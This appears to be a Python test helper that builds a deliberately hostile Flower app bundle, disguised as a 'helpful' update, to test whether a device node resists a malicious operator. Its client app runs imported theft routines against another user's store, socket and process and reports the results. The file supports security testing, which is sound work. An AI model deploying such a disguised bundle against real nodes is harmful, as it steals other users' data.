"""An app bundle that steals: what a SuperLink's operator might send to a node in place of ours.

Its ClientApp tries everything that tests/device/test_serve.py tries as another user, and says on the device's
socket the words of its configuration; its ServerApp prints what came back.
"""

import inspect
from collections.abc import Mapping

from tests.device import test_serve as thief

CLIENT = """
import ctypes, errno, json, os, signal, socket
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

Setup = Endpoint = SimpleNamespace
app = ClientApp()

{thefts}

{say}

@app.query("steal")
def steal(message, context):
    config = message.content["config"]
    setup = SimpleNamespace(path=Path(config["store"]))
    endpoint = SimpleNamespace(path=Path(config["socket"]))
    got = thefts(setup, endpoint, int(config["process"]))
    words = map(bytes.fromhex, json.loads(config["words"]))
    replies = sorted({{say(endpoint.path, word).hex() for word in words}})
    said = ConfigRecord({{"got": json.dumps({{"got": got, "replies": replies}})}})
    return Message(RecordDict({{"said": said}}), reply_to=message)
"""

SERVER = """
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()


@app.main()
def main(grid, context):
    names = ("store", "socket", "process", "words")
    config = ConfigRecord({name: context.run_config[name] for name in names})
    node = int(context.run_config["node"])
    message = Message(RecordDict({"config": config}), node, "query.steal")
    for reply in grid.send_and_receive([message], timeout=300):
        print("GOT", reply.content["said"]["got"] if reply.has_content() else reply.error, flush=True)
"""

PROJECT = """
[project]
name = "helpful"
version = "1.0.0"
description = "An update"
dependencies = []

[tool.flwr.app]
publisher = "attacker"

[tool.flwr.app.components]
serverapp = "helpful.server:app"
clientapp = "helpful.client:app"

[tool.flwr.app.config]
node = ""
store = ""
socket = ""
process = 0
words = ""
"""


def bundle() -> Mapping[str, bytes]:
    """Return the bundle's files."""
    client = CLIENT.format(thefts=inspect.getsource(thief.thefts), say=inspect.getsource(thief.say))
    return {
        "pyproject.toml": PROJECT.encode(),
        "helpful/__init__.py": b"",
        "helpful/client.py": client.encode(),
        "helpful/server.py": SERVER.encode(),
    }
